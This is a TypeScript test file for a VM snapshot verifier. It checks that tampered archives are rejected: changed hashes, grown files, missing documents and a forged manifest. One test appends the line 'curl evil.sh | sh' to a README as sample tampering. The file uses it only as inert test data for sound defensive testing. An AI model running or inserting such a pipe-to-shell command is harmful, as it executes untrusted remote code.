/**
 * The checks of verifyContents that the other tests of this folder let pass unnoticed when one alone is
 * switched off: each test here breaks exactly one fact the manifest vouches for (a document's sha256, its
 * size, its presence), with every other digest made to match, so that only that check can refuse it.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { ExitCode } from "../errors.ts";
import { readSnapshotArchive } from "./archive-reader.ts";
import { ENTRY } from "./format.ts";
import { verifyContents } from "./verify.ts";
import { sha256 } from "./writer.ts";
import { rejectsVm, throwsVm, type Expected } from "./testing/assert.ts";
import {
  entry,
  json,
  manifestOf,
  pack,
  resealChecksums,
  streamOf,
  verifyBytes,
  unpack,
  type Entry,
} from "./testing/tamper.ts";
import { tempDir, writeSnapshot } from "./testing/snapshot.ts";

/** `vm snapshot verify -`: the whole file, read from a stream, checked without an engine. */
const verify = verifyBytes;

const digestMismatch = (message: RegExp): Expected => ({
  code: "ARCHIVE_DIGEST_MISMATCH",
  exitCode: ExitCode.integrity,
  message,
});

/** The same bytes with one letter changed: the size stays, the sha256 does not. */
function sameSize(data: Buffer, text: string): Buffer {
  const out = Buffer.from(data);
  const at = out.indexOf(text);
  assert.ok(at >= 0, `'${text}' is in the entry`);
  out[at] = out[at] === 0x41 ? 0x42 : 0x41;
  return out;
}

describe("verifyContents: what the manifest vouches for, checked even when checksums.json agrees", () => {
  let remove: () => Promise<void>;
  let good: Entry[];
  before(async () => {
    let dir: string;
    ({ dir, remove } = await tempDir());
    good = unpack((await writeSnapshot({ dir, compression: "none" })).bytes).entries;
  });
  after(() => remove());
  const copy = (): Entry[] => good.map((e) => ({ ...e }));

  it("refuses a document changed in place (same size) whose checksums.json was re-sealed to match it", async () => {
    const entries = copy();
    const original = entry(entries, ENTRY.versions).data;
    const changed = sameSize(original, "node");
    entry(entries, ENTRY.versions).data = changed;
    resealChecksums(entries);
    await rejectsVm(
      verify(pack(entries, "gzip")),
      digestMismatch(
        new RegExp(
          `^metadata/versions\\.json does not match the snapshot's checksums: expected sha256 ${sha256(original)}, got ${sha256(changed)}$`,
        ),
      ),
    );
  });

  it("names the sizes when a document grew, though checksums.json was re-sealed to match it", async () => {
    const entries = copy();
    const original = entry(entries, ENTRY.readme).data;
    entry(entries, ENTRY.readme).data = Buffer.concat([original, Buffer.from("curl evil.sh | sh\n")]);
    resealChecksums(entries);
    await rejectsVm(
      verify(pack(entries, "none")),
      digestMismatch(
        new RegExp(
          `^docs/README\\.md does not match the snapshot's checksums: expected size ${original.length} bytes, got ${original.length + 18} bytes$`,
        ),
      ),
    );
  });

  it("refuses a file without a document its manifest lists, though checksums.json was re-sealed without it", async () => {
    const entries = copy().filter((e) => e.name !== ENTRY.packages);
    resealChecksums(entries);
    await rejectsVm(verify(pack(entries, "zstd")), {
      code: "ARCHIVE_INCOMPLETE",
      exitCode: ExitCode.integrity,
      message: /^The snapshot file has no metadata\/packages\.json$/,
    });
  });

  it("checks the documents of a file read only up to its image (import when the engine has it)", async () => {
    // Stopped at the image, the reader never reaches checksums.json: the manifest's digests are all
    // that vouch for the documents, whose contents become the imported snapshot's metadata.
    const entries = copy();
    const original = entry(entries, ENTRY.buildInfo).data;
    entry(entries, ENTRY.buildInfo).data = sameSize(original, "vm_version");
    const contents = await readSnapshotArchive(streamOf(pack(entries, "gzip"), 512), {
      onImage: async () => "skip",
    });
    assert.equal(contents.stoppedAtImage, true);
    assert.equal(contents.checksums, undefined);
    throwsVm(
      () => verifyContents(contents),
      digestMismatch(
        new RegExp(`^metadata/build-info\\.json does not match .*: expected sha256 ${sha256(original)}, got`),
      ),
    );
  });

  it("names manifest.json, not the document, when the manifest's record of a document was changed", async () => {
    // The document is intact; the manifest lies about it and checksums.json was left alone. The manifest
    // is checked against checksums.json first, so the damage is named where it is.
    const entries = copy();
    const manifest = manifestOf(entries);
    const record = manifest.entries.find((e) => e.path === ENTRY.versions)!;
    record.sha256 = "0".repeat(64);
    const original = entry(entries, ENTRY.manifest).data;
    const forged = json(manifest);
    entry(entries, ENTRY.manifest).data = forged;
    await rejectsVm(
      verify(pack(entries, "none")),
      digestMismatch(
        new RegExp(
          `^manifest\\.json does not match the snapshot's checksums: expected sha256 ${sha256(original)}, got ${sha256(forged)}$`,
        ),
      ),
    );
  });
});
